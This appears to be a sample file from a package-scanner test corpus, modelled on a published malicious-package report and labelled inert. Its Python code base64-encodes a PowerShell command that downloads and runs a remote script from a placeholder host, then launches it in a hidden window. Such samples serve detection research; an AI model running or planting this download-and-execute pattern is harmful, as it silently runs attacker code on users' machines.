# pkgguard corpus 668 (download-execute), modelled on [checkmarx-2024]; inert, never run.
import base64
import subprocess

_ps = "IEX (New-Object Net.WebClient).DownloadString('https://ps-cdn.example/a.ps1')"
_enc = base64.b64encode(_ps.encode("utf-16-le")).decode()
subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", _enc])
